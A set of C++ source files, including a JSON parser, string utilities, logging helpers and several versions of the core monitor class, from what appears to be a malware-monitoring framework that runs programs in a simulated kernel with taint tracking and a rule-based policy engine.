            if (c == '}')
                break;
            if (c != ',')
                bad("expected ',' or '}'");
        }
        return JsonValue::makeObject(std::move(members));
    }

    JsonValue
    array()
    {
        expect('[');
        std::vector<JsonValue> items;
        skipWs();
        if (peek() == ']') {
            ++pos_;
            return JsonValue::makeArray(std::move(items));
        }
        while (true) {
            items.push_back(value());
            skipWs();
            char c = peek();
            ++pos_;
            if (c == ']')
                break;
            if (c != ',')
                bad("expected ',' or ']'");
        }
        return JsonValue::makeArray(std::move(items));
    }

    std::string
    string()
    {
        expect('"');
        std::string out;
        while (true) {
            if (pos_ >= text_.size())
                bad("unterminated string");
            char c = text_[pos_++];
            if (c == '"')
                return out;
            if (c != '\\') {
                out += c;
                continue;
            }
            if (pos_ >= text_.size())
                bad("unterminated escape");
            char esc = text_[pos_++];
            switch (esc) {
            case '"': out += '"'; break;
            case '\\': out += '\\'; break;
            case '/': out += '/'; break;
            case 'b': out += '\b'; break;
            case 'f': out += '\f'; break;
            case 'n': out += '\n'; break;
            case 'r': out += '\r'; break;
            case 't': out += '\t'; break;
            case 'u': {
                if (pos_ + 4 > text_.size())
                    bad("truncated \\u escape");
                unsigned code = 0;
                for (int i = 0; i < 4; ++i) {
                    char h = text_[pos_++];
                    code <<= 4;
                    if (h >= '0' && h <= '9')
                        code |= (unsigned)(h - '0');
                    else if (h >= 'a' && h <= 'f')
                        code |= (unsigned)(h - 'a' + 10);
                    else if (h >= 'A' && h <= 'F')
                        code |= (unsigned)(h - 'A' + 10);
                    else
                        bad("bad \\u escape");
                }
                // The emitters only escape control bytes; decode the
                // BMP point as UTF-8 so round trips are lossless.
                if (code < 0x80) {
                    out += (char)code;
                } else if (code < 0x800) {
                    out += (char)(0xc0 | (code >> 6));
                    out += (char)(0x80 | (code & 0x3f));
                } else {
                    out += (char)(0xe0 | (code >> 12));
                    out += (char)(0x80 | ((code >> 6) & 0x3f));
                    out += (char)(0x80 | (code & 0x3f));
                }
                break;
            }
            default: bad("unknown escape");
            }
        }
    }

    JsonValue
    number()
    {
        size_t start = pos_;
        if (peek() == '-')
            ++pos_;
        while (pos_ < text_.size() &&
               (std::isdigit((unsigned char)text_[pos_]) ||
                text_[pos_] == '.' || text_[pos_] == 'e' ||
                text_[pos_] == 'E' || text_[pos_] == '+' ||
                text_[pos_] == '-'))
            ++pos_;
        if (pos_ == start)
            bad("expected a value");
        std::string token = text_.substr(start, pos_ - start);
        char *end = nullptr;
        double v = std::strtod(token.c_str(), &end);
        if (end != token.c_str() + token.size())
            fatal("json: bad number '", token, "' at offset ", start);
        return JsonValue::makeNumber(v);
    }

    const std::string &text_;
    size_t pos_ = 0;
};

} // namespace

JsonValue
parseJson(const std::string &text)
{
    return Parser(text).document();
}

} // namespace hth::support
