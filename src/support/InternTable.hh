/**
 * @file
 * A string intern table mapping strings to dense 32-bit ids.
 *
 * Both the CLIPS symbol table and the taint resource table need fast
 * string identity; interning gives O(1) comparisons and compact ids
 * suitable for indexing side tables.
 */

#ifndef HTH_SUPPORT_INTERNTABLE_HH
#define HTH_SUPPORT_INTERNTABLE_HH

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "support/Logging.hh"

namespace hth
{

/** Interns strings; ids are dense and stable for the table lifetime. */
class InternTable
{
  public:
    using Id = uint32_t;

    /** Intern @p text, returning its id (allocating one if new). */
    Id
    intern(std::string_view text)
    {
        auto it = ids_.find(std::string(text));
        if (it != ids_.end())
            return it->second;
        Id id = (Id)strings_.size();
        strings_.emplace_back(text);
        ids_.emplace(strings_.back(), id);
        return id;
    }

    /** Look up an already interned string; panics on unknown id. */
    const std::string &
    lookup(Id id) const
    {
        panicIf(id >= strings_.size(), "bad intern id ", id);
        return strings_[id];
    }

    /** Number of distinct strings interned so far. */
    size_t size() const { return strings_.size(); }

  private:
    std::vector<std::string> strings_;
    std::unordered_map<std::string, Id> ids_;
};

} // namespace hth

#endif // HTH_SUPPORT_INTERNTABLE_HH
