#include "support/StrUtil.hh"

#include <cctype>
#include <cstdint>
#include <sstream>

namespace hth
{

std::vector<std::string>
split(std::string_view text, char sep)
{
    std::vector<std::string> out;
    size_t start = 0;
    while (true) {
        size_t pos = text.find(sep, start);
        if (pos == std::string_view::npos) {
            out.emplace_back(text.substr(start));
            return out;
        }
        out.emplace_back(text.substr(start, pos - start));
        start = pos + 1;
    }
}

std::vector<std::string>
splitWs(std::string_view text)
{
    std::vector<std::string> out;
    size_t i = 0;
    while (i < text.size()) {
        while (i < text.size() && std::isspace((unsigned char)text[i]))
            ++i;
        size_t start = i;
        while (i < text.size() && !std::isspace((unsigned char)text[i]))
            ++i;
        if (i > start)
            out.emplace_back(text.substr(start, i - start));
    }
    return out;
}

std::string
join(const std::vector<std::string> &parts, std::string_view sep)
{
    std::string out;
    for (size_t i = 0; i < parts.size(); ++i) {
        if (i)
            out += sep;
        out += parts[i];
    }
    return out;
}

bool
startsWith(std::string_view text, std::string_view prefix)
{
    return text.size() >= prefix.size() &&
           text.substr(0, prefix.size()) == prefix;
}

bool
endsWith(std::string_view text, std::string_view suffix)
{
    return text.size() >= suffix.size() &&
           text.substr(text.size() - suffix.size()) == suffix;
}

std::string
trim(std::string_view text)
{
    size_t begin = 0;
    size_t end = text.size();
    while (begin < end && std::isspace((unsigned char)text[begin]))
        ++begin;
    while (end > begin && std::isspace((unsigned char)text[end - 1]))
        --end;
    return std::string(text.substr(begin, end - begin));
}

std::string
toLower(std::string_view text)
{
    std::string out(text);
    for (char &c : out)
        c = (char)std::tolower((unsigned char)c);
    return out;
}

std::string
escapeBytes(std::string_view bytes)
{
    std::ostringstream oss;
    for (char c : bytes) {
        if (c == '\n') {
            oss << "\\n";
        } else if (c == '\t') {
            oss << "\\t";
        } else if (c == '\\') {
            oss << "\\\\";
        } else if (std::isprint((unsigned char)c)) {
            oss << c;
        } else {
            static const char hex[] = "0123456789abcdef";
            oss << "\\x" << hex[((unsigned char)c) >> 4]
                << hex[((unsigned char)c) & 0xf];
        }
    }
    return oss.str();
}

std::vector<std::string>
extractStrings(const std::vector<uint8_t> &bytes, size_t min_len)
{
    std::vector<std::string> out;
    std::string current;
    for (uint8_t b : bytes) {
        if (b != 0 && std::isprint(b)) {
            current.push_back((char)b);
        } else {
            if (current.size() >= min_len)
                out.push_back(current);
            current.clear();
        }
    }
    if (current.size() >= min_len)
        out.push_back(current);
    return out;
}

} // namespace hth
