/**
 * @file
 * Status reporting helpers in the spirit of gem5's logging.hh.
 *
 * panic()  — an internal invariant was violated (a bug in HTH itself).
 * fatal()  — the caller supplied input HTH cannot continue with.
 * warn()   — something is suspicious but execution can proceed.
 * inform() — purely informative status output.
 */

#ifndef HTH_SUPPORT_LOGGING_HH
#define HTH_SUPPORT_LOGGING_HH

#include <functional>
#include <sstream>
#include <stdexcept>
#include <string>

namespace hth
{

/** Severity of a non-throwing log message. */
enum class LogLevel
{
    Inform,
    Warn,
};

/** Stable lower-case name: "inform" / "warn". */
const char *logLevelName(LogLevel level);

/**
 * Receiver for warn()/inform() output. The sink runs under the
 * logging mutex: keep it quick and never log from inside it.
 */
using LogSink = std::function<void(LogLevel, const std::string &)>;

/**
 * Install a process-wide log sink, returning the previous one so
 * callers (tests, the fleet daemon) can capture output and restore.
 * An empty function restores the default stderr sink.
 */
LogSink setLogSink(LogSink sink);

/** Error raised by panic(); indicates a bug inside HTH. */
class PanicError : public std::logic_error
{
  public:
    explicit PanicError(const std::string &msg) : std::logic_error(msg) {}
};

/** Error raised by fatal(); indicates unusable user input. */
class FatalError : public std::runtime_error
{
  public:
    explicit FatalError(const std::string &msg) : std::runtime_error(msg) {}
};

namespace detail
{

/** Concatenate a heterogeneous argument pack into one string. */
template <typename... Args>
std::string
concat(Args &&...args)
{
    std::ostringstream oss;
    (oss << ... << std::forward<Args>(args));
    return oss.str();
}

/** Hand a finished message to the current sink (thread-safe). */
void emitLog(LogLevel level, const std::string &message);

} // namespace detail

/** Report something suspicious that execution can survive. */
template <typename... Args>
void
warn(Args &&...args)
{
    detail::emitLog(LogLevel::Warn,
                    detail::concat(std::forward<Args>(args)...));
}

/** Purely informative status output. */
template <typename... Args>
void
inform(Args &&...args)
{
    detail::emitLog(LogLevel::Inform,
                    detail::concat(std::forward<Args>(args)...));
}

/** Abort with an internal-invariant failure. Never returns. */
template <typename... Args>
[[noreturn]] void
panic(Args &&...args)
{
    throw PanicError(detail::concat("panic: ",
                                    std::forward<Args>(args)...));
}

/** Abort with a user-facing configuration failure. Never returns. */
template <typename... Args>
[[noreturn]] void
fatal(Args &&...args)
{
    throw FatalError(detail::concat("fatal: ",
                                    std::forward<Args>(args)...));
}

/** Panic unless the given condition holds. */
template <typename... Args>
void
panicIf(bool condition, Args &&...args)
{
    if (condition)
        panic(std::forward<Args>(args)...);
}

/** Fatal unless the given condition holds. */
template <typename... Args>
void
fatalIf(bool condition, Args &&...args)
{
    if (condition)
        fatal(std::forward<Args>(args)...);
}

} // namespace hth

#endif // HTH_SUPPORT_LOGGING_HH
