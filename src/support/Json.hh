/**
 * @file
 * A minimal JSON value model and recursive-descent parser.
 *
 * The repo emits JSON in several places (stats sinks, hth_lint,
 * baseline profiles) but until the anomaly subsystem nothing needed
 * to read it back. This is the smallest reader that covers those
 * producers: objects, arrays, strings with the escapes jsonEscape()
 * emits, numbers, booleans and null. Object keys keep insertion
 * order is NOT guaranteed — lookups go through members(); writers
 * that need byte-stable output serialize themselves (ordered maps +
 * fixed float formatting) rather than round-tripping through this
 * model.
 *
 * Errors raise FatalError with a byte offset, so a truncated or
 * hand-edited baseline file fails with a diagnostic instead of
 * mis-parsing.
 */

#ifndef HTH_SUPPORT_JSON_HH
#define HTH_SUPPORT_JSON_HH

#include <map>
#include <string>
#include <vector>

namespace hth::support
{

/** One parsed JSON value (a tagged tree). */
class JsonValue
{
  public:
    enum class Kind
    {
        Null,
        Bool,
        Number,
        String,
        Array,
        Object,
    };

    Kind kind() const { return kind_; }
    bool isNull() const { return kind_ == Kind::Null; }
    bool isBool() const { return kind_ == Kind::Bool; }
    bool isNumber() const { return kind_ == Kind::Number; }
    bool isString() const { return kind_ == Kind::String; }
    bool isArray() const { return kind_ == Kind::Array; }
    bool isObject() const { return kind_ == Kind::Object; }

    /** Typed accessors; fatal() on a kind mismatch. */
    bool boolean() const;
    double number() const;
    const std::string &str() const;
    const std::vector<JsonValue> &items() const;
    const std::map<std::string, JsonValue> &members() const;

    /** Object member by key; fatal() when absent or not an object. */
    const JsonValue &at(const std::string &key) const;

    /** True when this is an object containing @p key. */
    bool has(const std::string &key) const;

    /** Member when present, @p fallback otherwise. */
    double numberOr(const std::string &key, double fallback) const;

    static JsonValue makeNull();
    static JsonValue makeBool(bool b);
    static JsonValue makeNumber(double n);
    static JsonValue makeString(std::string s);
    static JsonValue makeArray(std::vector<JsonValue> items);
    static JsonValue makeObject(std::map<std::string, JsonValue> m);

  private:
    Kind kind_ = Kind::Null;
    bool bool_ = false;
    double number_ = 0;
    std::string string_;
    std::vector<JsonValue> items_;
    std::map<std::string, JsonValue> members_;
};

/**
 * Parse one JSON document. Trailing non-whitespace after the value
 * is an error (line-oriented consumers parse line by line).
 * @throws FatalError with a byte offset on malformed input.
 */
JsonValue parseJson(const std::string &text);

} // namespace hth::support

#endif // HTH_SUPPORT_JSON_HH
