#include "support/Logging.hh"

#include <cstdio>
#include <mutex>
#include <utility>

namespace hth
{

namespace
{

std::mutex &
logMutex()
{
    static std::mutex mutex;
    return mutex;
}

/** The installed sink; empty means "default stderr". */
LogSink &
currentSink()
{
    static LogSink sink;
    return sink;
}

void
stderrSink(LogLevel level, const std::string &message)
{
    std::fprintf(stderr, "%s: %s\n", logLevelName(level),
                 message.c_str());
}

} // namespace

const char *
logLevelName(LogLevel level)
{
    return level == LogLevel::Warn ? "warn" : "inform";
}

LogSink
setLogSink(LogSink sink)
{
    std::lock_guard lock(logMutex());
    LogSink previous = std::move(currentSink());
    currentSink() = std::move(sink);
    return previous;
}

namespace detail
{

void
emitLog(LogLevel level, const std::string &message)
{
    std::lock_guard lock(logMutex());
    if (currentSink())
        currentSink()(level, message);
    else
        stderrSink(level, message);
}

} // namespace detail

} // namespace hth
