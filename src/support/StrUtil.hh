/**
 * @file
 * Small string helpers shared across HTH modules.
 */

#ifndef HTH_SUPPORT_STRUTIL_HH
#define HTH_SUPPORT_STRUTIL_HH

#include <string>
#include <string_view>
#include <vector>

namespace hth
{

/** Split @p text on @p sep; empty pieces are preserved. */
std::vector<std::string> split(std::string_view text, char sep);

/** Split @p text on runs of whitespace; empty pieces are dropped. */
std::vector<std::string> splitWs(std::string_view text);

/** Join @p parts with @p sep between consecutive elements. */
std::string join(const std::vector<std::string> &parts,
                 std::string_view sep);

/** True when @p text begins with @p prefix. */
bool startsWith(std::string_view text, std::string_view prefix);

/** True when @p text ends with @p suffix. */
bool endsWith(std::string_view text, std::string_view suffix);

/** Strip leading and trailing ASCII whitespace. */
std::string trim(std::string_view text);

/** Lower-case an ASCII string. */
std::string toLower(std::string_view text);

/** Render a byte buffer, escaping non-printable characters. */
std::string escapeBytes(std::string_view bytes);

/**
 * Extract NUL-terminated printable strings of at least @p min_len
 * characters from a raw byte buffer, the way the `strings` utility
 * does. Used by the Secure Binary static verifier.
 */
std::vector<std::string> extractStrings(const std::vector<uint8_t> &bytes,
                                        size_t min_len = 4);

} // namespace hth

#endif // HTH_SUPPORT_STRUTIL_HH
