#include "core/Hth.hh"

#include <algorithm>
#include <tuple>

namespace hth
{

size_t
Report::countByRule(const std::string &rule) const
{
    size_t n = 0;
    for (const auto &w : warnings)
        if (w.rule == rule)
            ++n;
    return n;
}

Hth::Hth(HthOptions options) : options_(std::move(options))
{
    kernel_ = std::make_unique<os::Kernel>();
    kernel_->setTaintTracking(options_.taintTracking);
    kernel_->setProcessLimit(options_.processLimit);
    libc_ = os::installLibc(*kernel_);

    secpert_ = std::make_unique<secpert::Secpert>(options_.policy);
    harrier::EventSink *sink = secpert_.get();
    if (options_.eventTap) {
        tee_ = std::make_unique<harrier::TeeSink>(
            std::vector<harrier::EventSink *>{options_.eventTap,
                                              secpert_.get()});
        sink = tee_.get();
    }
    harrier_ =
        std::make_unique<harrier::Harrier>(*sink, options_.harrier);
    harrier_->attach(*kernel_);
}

Hth::~Hth() = default;

Report
Hth::monitor(const std::string &path,
             const std::vector<std::string> &argv,
             const std::vector<std::string> &env,
             const std::string &stdin_data)
{
    os::Process &proc = kernel_->spawn(path, argv, env);
    proc.stdinData = stdin_data;

    Report report;
    report.status = kernel_->run(options_.maxTicks);
    report.warnings = secpert_->warnings();
    report.staticFindings = secpert_->staticFindings();
    // Stable order independent of image-load sequence, so identical
    // sessions produce byte-identical reports (fleet determinism).
    std::stable_sort(report.staticFindings.begin(),
                     report.staticFindings.end(),
                     [](const secpert::StaticFinding &a,
                        const secpert::StaticFinding &b) {
                         return std::tie(a.image, a.address, a.kind,
                                         a.level) <
                                std::tie(b.image, b.address, b.kind,
                                         b.level);
                     });
    report.transcript = secpert_->transcript();
    report.fireTrace = secpert_->env().fireTraceToString();
    report.stdoutData = proc.stdoutData;
    report.exitCode = proc.exitCode;
    report.instructions = kernel_->now();
    report.syscalls = kernel_->stats().syscalls;
    report.eventsAnalyzed = secpert_->stats().eventsAnalyzed;
    report.rulesFired = secpert_->stats().rulesFired;
    return report;
}

} // namespace hth
