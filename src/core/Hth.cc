#include "core/Hth.hh"

namespace hth
{

size_t
Report::countByRule(const std::string &rule) const
{
    size_t n = 0;
    for (const auto &w : warnings)
        if (w.rule == rule)
            ++n;
    return n;
}

Hth::Hth(HthOptions options) : options_(std::move(options))
{
    kernel_ = std::make_unique<os::Kernel>();
    kernel_->setTaintTracking(options_.taintTracking);
    kernel_->setProcessLimit(options_.processLimit);
    libc_ = os::installLibc(*kernel_);

    secpert_ = std::make_unique<secpert::Secpert>(options_.policy);
    harrier_ =
        std::make_unique<harrier::Harrier>(*secpert_, options_.harrier);
    harrier_->attach(*kernel_);
}

Hth::~Hth() = default;

Report
Hth::monitor(const std::string &path,
             const std::vector<std::string> &argv,
             const std::vector<std::string> &env,
             const std::string &stdin_data)
{
    os::Process &proc = kernel_->spawn(path, argv, env);
    proc.stdinData = stdin_data;

    Report report;
    report.status = kernel_->run(options_.maxTicks);
    report.warnings = secpert_->warnings();
    report.staticFindings = secpert_->staticFindings();
    report.transcript = secpert_->transcript();
    report.fireTrace = secpert_->env().fireTraceToString();
    report.stdoutData = proc.stdoutData;
    report.exitCode = proc.exitCode;
    report.instructions = kernel_->now();
    report.syscalls = kernel_->stats().syscalls;
    report.eventsAnalyzed = secpert_->stats().eventsAnalyzed;
    report.rulesFired = secpert_->stats().rulesFired;
    return report;
}

} // namespace hth
