#include "core/Hth.hh"

#include <algorithm>
#include <tuple>

namespace hth
{

size_t
Report::countByRule(const std::string &rule) const
{
    size_t n = 0;
    for (const auto &w : warnings)
        if (w.rule == rule)
            ++n;
    return n;
}

Hth::Hth(HthOptions options) : options_(std::move(options))
{
    kernel_ = std::make_unique<os::Kernel>();
    kernel_->setTaintTracking(options_.taintTracking);
    kernel_->setSuperblocks(options_.superblocks);
    kernel_->setProcessLimit(options_.processLimit);
    libc_ = os::installLibc(*kernel_);

    secpert_ = std::make_unique<secpert::Secpert>(options_.policy);
    if (!options_.extraPolicyRules.empty())
        secpert_->env().loadString(options_.extraPolicyRules);
    harrier::EventSink *sink = secpert_.get();
    if (options_.eventTap) {
        tee_ = std::make_unique<harrier::TeeSink>(
            std::vector<harrier::EventSink *>{options_.eventTap,
                                              secpert_.get()});
        sink = tee_.get();
    }
    harrier_ =
        std::make_unique<harrier::Harrier>(*sink, options_.harrier);
    harrier_->attach(*kernel_);

    if (options_.telemetry) {
        kernel_->setProfiler(&profiler_);
        harrier_->setProfiler(&profiler_);
        secpert_->setProfiler(&profiler_);
    }
    if (options_.spanTrace) {
        tracer_ = std::make_unique<obs::SpanTracer>(
            options_.spanRingCapacity);
        profiler_.setSpanSink(tracer_.get());
        kernel_->setSpanTracer(tracer_.get());
        harrier_->setSpanTracer(tracer_.get());
        secpert_->setSpanTracer(tracer_.get());
    }
    if (options_.flightRecorderEntries) {
        flight_ = std::make_unique<obs::FlightRecorder>(
            options_.flightRecorderEntries);
        secpert_->setFlightRecorder(flight_.get());
    }
}

Hth::~Hth() = default;

Report
Hth::monitor(const std::string &path,
             const std::vector<std::string> &argv,
             const std::vector<std::string> &env,
             const std::string &stdin_data)
{
    uint64_t monitorBegin =
        tracer_ ? obs::SpanTracer::nowNs() : 0;
    if (options_.telemetry)
        profiler_.start(obs::Phase::Setup);

    os::Process &proc = kernel_->spawn(path, argv, env);
    proc.stdinData = stdin_data;

    Report report;
    report.status = kernel_->run(options_.maxTicks);
    profiler_.stop();

    // Harvest before the anomaly machinery runs: the scored
    // snapshot must reflect the monitored program, not the scoring
    // of it. Harvest is set-semantics, so re-running it below is
    // safe and only refreshes what changed.
    collectTelemetry(report);
    if (options_.baseline) {
        obs::SpanScope scoring(tracer_.get(),
                               obs::SpanId::AnomalyScore);
        const std::string &runName =
            options_.baselineRunName.empty()
                ? options_.baseline->name
                : options_.baselineRunName;
        report.anomaly =
            anomaly::scoreTelemetry(report.telemetry, runName,
                                    *options_.baseline,
                                    options_.scorer);
        report.anomalyScored = true;
        if (report.anomaly.anomalous) {
            secpert_->noteAnomaly(runName, report.anomaly);
            collectTelemetry(report);
        }
    }

    report.warnings = secpert_->warnings();
    report.staticFindings = secpert_->staticFindings();
    // Stable order independent of image-load sequence, so identical
    // sessions produce byte-identical reports (fleet determinism).
    std::stable_sort(report.staticFindings.begin(),
                     report.staticFindings.end(),
                     [](const secpert::StaticFinding &a,
                        const secpert::StaticFinding &b) {
                         return std::tie(a.image, a.address, a.kind,
                                         a.level) <
                                std::tie(b.image, b.address, b.kind,
                                         b.level);
                     });
    report.transcript = secpert_->transcript();
    report.fireTrace = secpert_->env().fireTraceToString();
    report.stdoutData = proc.stdoutData;
    report.exitCode = proc.exitCode;

    // The evidence chain is assembled whenever something was
    // flagged; the flight-recorder window rides along only on a
    // High-severity verdict (the crash-box contract).
    if (report.flagged()) {
        report.provenance = secpert_->buildProvenance();
        if (flight_ && flight_->enabled() &&
            report.flagged(secpert::Severity::High))
            report.provenance.flight = flight_->dump();
    }
    if (tracer_) {
        tracer_->record(obs::SpanId::Monitor, monitorBegin,
                        obs::SpanTracer::nowNs());
        report.spans = tracer_->snapshot();
        report.spansDropped = tracer_->dropped();
    }
    return report;
}

void
Hth::collectTelemetry(Report &report)
{
    // Set-semantics harvest: each counter holds the layer's own
    // cumulative total, so repeated monitor() calls on one instance
    // stay consistent (the registry mirrors the stats structs, it
    // does not double-count them).
    auto set = [&](const char *name, uint64_t v) {
        metrics_.counter(name).set(v);
    };

    vm::MachineStats vmTotals;
    taint::ShadowStats shadowTotals;
    uint64_t shadowPages = 0;
    for (const auto &p : kernel_->processes()) {
        const vm::MachineStats &ms = p->machine.stats();
        vmTotals.instructions += ms.instructions;
        vmTotals.basicBlocks += ms.basicBlocks;
        vmTotals.taintOps += ms.taintOps;
        vmTotals.blockCacheHits += ms.blockCacheHits;
        vmTotals.blockCacheMisses += ms.blockCacheMisses;
        vmTotals.blockCacheInvalidations +=
            ms.blockCacheInvalidations;
        vmTotals.insnsDecoded += ms.insnsDecoded;
        vmTotals.superblocksFormed += ms.superblocksFormed;
        vmTotals.superblockEntries += ms.superblockEntries;
        vmTotals.superblockChainedExits +=
            ms.superblockChainedExits;
        vmTotals.superblockDeopts += ms.superblockDeopts;
        vmTotals.superblockInsns += ms.superblockInsns;
        const taint::ShadowStats &ss = p->machine.shadow().stats();
        shadowTotals.pagesMaterialized += ss.pagesMaterialized;
        shadowTotals.emptyReadSkips += ss.emptyReadSkips;
        shadowTotals.emptyWriteSkips += ss.emptyWriteSkips;
        shadowPages += p->machine.shadow().pageCount();
    }
    set("vm.instructions", vmTotals.instructions);
    set("vm.basic_blocks", vmTotals.basicBlocks);
    set("vm.taint_ops", vmTotals.taintOps);
    set("vm.block_cache.hits", vmTotals.blockCacheHits);
    set("vm.block_cache.misses", vmTotals.blockCacheMisses);
    set("vm.block_cache.invalidations",
        vmTotals.blockCacheInvalidations);
    set("vm.block_cache.insns_decoded", vmTotals.insnsDecoded);
    set("vm.superblock.formed", vmTotals.superblocksFormed);
    set("vm.superblock.entered", vmTotals.superblockEntries);
    set("vm.superblock.chained_exits",
        vmTotals.superblockChainedExits);
    set("vm.superblock.deopts", vmTotals.superblockDeopts);
    // Dispatch split: instructions retired inside linked traces vs
    // by the generic decode-dispatch loop. Their sum is always
    // vm.instructions; the threaded gauge records which dispatch
    // mechanism the build compiled in (1 = computed goto).
    set("vm.dispatch.superblock_insns", vmTotals.superblockInsns);
    set("vm.dispatch.generic_insns",
        vmTotals.instructions - vmTotals.superblockInsns);
    metrics_.gauge("vm.dispatch.threaded")
        .set(vm::Machine::threadedDispatch() ? 1 : 0);
    set("taint.shadow.pages_materialized",
        shadowTotals.pagesMaterialized);
    set("taint.shadow.empty_read_skips",
        shadowTotals.emptyReadSkips);
    set("taint.shadow.empty_write_skips",
        shadowTotals.emptyWriteSkips);
    metrics_.gauge("taint.shadow.pages_live").set(shadowPages);

    const taint::TagStoreStats &tags = kernel_->tagStore().stats();
    set("taint.tags.union_calls", tags.unionCalls);
    set("taint.tags.union_cache_hits", tags.unionCacheHits);
    set("taint.tags.sets_interned", tags.setsInterned);

    const os::KernelStats &ks = kernel_->stats();
    set("os.ticks", kernel_->now());
    set("os.syscalls", ks.syscalls);
    set("os.context_switches", ks.contextSwitches);
    set("os.processes_created", ks.processesCreated);
    set("os.stdin_bytes_read", ks.stdinBytesRead);
    set("os.socket_bytes_read", ks.socketBytesRead);
    set("os.native_calls", ks.nativeCalls);
    set("os.vfs_ops", ks.vfsOps);
    for (size_t n = 0; n < ks.syscallsByNumber.size(); ++n)
        if (ks.syscallsByNumber[n])
            metrics_
                .counter(std::string("os.syscall.") +
                         os::syscallName((int)n))
                .set(ks.syscallsByNumber[n]);

    const harrier::HarrierStats &hs = harrier_->stats();
    set("harrier.bb_callbacks", hs.bbCallbacks);
    set("harrier.access_events", hs.accessEvents);
    set("harrier.io_events", hs.ioEvents);
    set("harrier.short_circuits", hs.shortCircuits);
    set("harrier.images_analyzed", hs.imagesAnalyzed);
    set("harrier.static_findings", hs.staticFindings);
    set("analysis.functions_summarized", hs.functionsSummarized);
    set("analysis.paths_explored", hs.pathsExplored);
    set("analysis.solver_iterations", hs.solverIterations);

    const secpert::SecpertStats &sp = secpert_->stats();
    set("secpert.events_analyzed", sp.eventsAnalyzed);
    set("secpert.rules_fired", sp.rulesFired);
    set("secpert.warnings_suppressed", sp.warningsSuppressed);
    set("secpert.static_findings", sp.staticFindings);

    const clips::EngineStats &es = secpert_->env().stats();
    set("clips.fires", es.fires);
    set("clips.asserts", es.asserts);
    set("clips.retracts", es.retracts);
    set("clips.match_passes", es.matchPasses);
    set("clips.rule_matches", es.ruleMatches);
    set("clips.activations", es.activations);
    set("clips.alpha_hits", es.alphaHits);
    set("clips.dirty_rescans", es.dirtyRescans);
    set("clips.rete.tokens_created", es.reteTokensCreated);
    set("clips.rete.tokens_destroyed", es.reteTokensDestroyed);
    set("clips.rete.join_attempts", es.reteJoinAttempts);
    // Emitted as a counter, not a gauge: fleet merges sum counters
    // but max gauges, and created - destroyed == beta_live must
    // survive the merge (check_stats_json.py asserts it).
    set("clips.rete.beta_live",
        es.reteTokensCreated - es.reteTokensDestroyed);
    metrics_.gauge("clips.agenda_peak").set(es.agendaPeak);
    for (const auto &[rule, n] :
         secpert_->env().activationCountsByRule())
        metrics_.counter("clips.activations." + rule).set(n);
    for (const auto &[rule, n] : secpert_->env().fireCountsByRule())
        metrics_.counter("clips.fires." + rule).set(n);

    if (tracer_) {
        set("obs.spans_recorded", tracer_->recorded());
        set("obs.spans_dropped", tracer_->dropped());
    }
    if (flight_)
        set("obs.flight_notes", flight_->total());

    report.telemetry.profiled = options_.telemetry;
    report.telemetry.phases = profiler_.breakdown();
    report.telemetry.metrics = metrics_.snapshot();

    // Deprecated aliases, by definition identical to the snapshot.
    report.instructions =
        report.telemetry.metrics.counter("os.ticks");
    report.syscalls =
        report.telemetry.metrics.counter("os.syscalls");
    report.eventsAnalyzed =
        report.telemetry.metrics.counter("secpert.events_analyzed");
    report.rulesFired =
        report.telemetry.metrics.counter("secpert.rules_fired");
}

} // namespace hth
