/**
 * @file
 * The HTH public API.
 *
 * hth::Hth wires the whole framework together: a simulated kernel
 * with the trusted libc, the Harrier monitor and the Secpert expert
 * system. Users configure the guest world (binaries, files, network
 * peers), then run a program under full monitoring and receive a
 * Report of everything the policy flagged.
 *
 * Typical use:
 * @code
 *   hth::Hth hth;
 *   hth.kernel().vfs().addBinary("/bin/evil", image);
 *   hth::Report report = hth.monitor("/bin/evil", {"/bin/evil"});
 *   if (report.flagged())
 *       ... inspect report.warnings ...
 * @endcode
 */

#ifndef HTH_CORE_HTH_HH
#define HTH_CORE_HTH_HH

#include <memory>
#include <string>
#include <vector>

#include "anomaly/Baseline.hh"
#include "anomaly/Scorer.hh"
#include "harrier/Harrier.hh"
#include "obs/Flight.hh"
#include "obs/Metrics.hh"
#include "obs/Profiler.hh"
#include "obs/Provenance.hh"
#include "obs/Span.hh"
#include "obs/Telemetry.hh"
#include "os/Kernel.hh"
#include "os/Libc.hh"
#include "secpert/Secpert.hh"

namespace hth
{

/** Framework-wide options. */
struct HthOptions
{
    /** Instruction-level data-flow tracking (§7.3). */
    bool taintTracking = true;

    /** Trace-linking VM engine: chain hot basic blocks into
     * superblocks with threaded dispatch and untainted-fast-path
     * specialization. Behaviour-neutral (identical Reports either
     * way); off is the ablation baseline for benchmarks. */
    bool superblocks = true;

    harrier::HarrierConfig harrier;
    secpert::PolicyConfig policy;

    /**
     * Additional CLIPS rule text loaded after the built-in policy
     * (same dialect, may reference the policy's deftemplates). This
     * is how the synthetic policy-at-scale workloads
     * (workloads::syntheticPolicy) stress the matcher without
     * touching the shipped rule base.
     */
    std::string extraPolicyRules;

    /** Virtual-tick budget per monitored run. */
    uint64_t maxTicks = 20000000;

    /** Live-process cap (fork-bomb containment). */
    size_t processLimit = 200;

    /**
     * Extra observer of the Harrier event stream (not owned). When
     * set, events are tee'd to the tap first and then to Secpert —
     * this is how a trace::TraceWriter records a session without
     * disturbing the live analysis.
     */
    harrier::EventSink *eventTap = nullptr;

    /**
     * Phase profiling + the Report.telemetry snapshot. The phase
     * profiler reads a clock only at phase transitions (syscalls,
     * event dispatch — never per instruction), so the cost is well
     * under the 5% overhead budget; disable only for the strictest
     * baseline measurements.
     */
    bool telemetry = true;

    /**
     * Multi-seed clean baseline to score the run against (shared so
     * a fleet can hand one profile to many Hth instances). When set,
     * monitor() scores the first telemetry harvest with `scorer`,
     * records the verdict in Report.anomaly, and — when anomalous —
     * feeds it to Secpert as a behavioral_anomaly fact so hybrid
     * rules can escalate. Requires `telemetry`.
     */
    std::shared_ptr<const anomaly::BaselineProfile> baseline;
    anomaly::ScorerConfig scorer;

    /**
     * Scenario id of the run being judged, checked against
     * baseline->name (see ScorerConfig::allowNameMismatch). Empty
     * means "the caller vouches for the pairing": the baseline's
     * own name is used and the check trivially passes.
     */
    std::string baselineRunName;

    /**
     * Span tracing: record begin/end timestamps for the profiler's
     * phase segments plus the fine-grained operations (image load,
     * static analysis, superblock formation, CLIPS pump, anomaly
     * scoring) into a bounded ring, snapshotted into Report.spans.
     * Off by default — the ring is cheap but not free, and most
     * runs only want the aggregate phase breakdown.
     */
    bool spanTrace = false;

    /** Span ring capacity; oldest spans drop once exceeded. */
